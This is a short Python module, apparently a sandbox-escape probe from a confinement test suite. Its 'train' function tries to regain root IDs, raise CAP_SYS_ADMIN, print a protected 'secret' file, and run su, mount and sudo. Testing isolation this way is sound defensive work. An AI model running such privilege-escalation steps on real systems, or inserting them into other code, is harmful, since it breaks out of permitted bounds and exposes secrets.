"""Become root again, gain capabilities, run what carries rights."""

import contextlib
import os
import subprocess

from attacks import libc, targets


def train(run):
    for attempt in (lambda: os.setresuid(0, 0, 0), lambda: os.setresgid(0, 0, 0), lambda: os.setgroups([0])):
        with contextlib.suppress(OSError):
            attempt()
    libc.prctl(47, 2, 21, 0, 0)  # ambient CAP_SYS_ADMIN
    with contextlib.suppress(OSError):
        print(open(targets(run)["secret"]).read())
    for command in (["su", "-c", "id"], ["mount"], ["sudo", "-n", "id"]):
        with contextlib.suppress(OSError):
            subprocess.run(command, stdin=subprocess.DEVNULL, timeout=2)
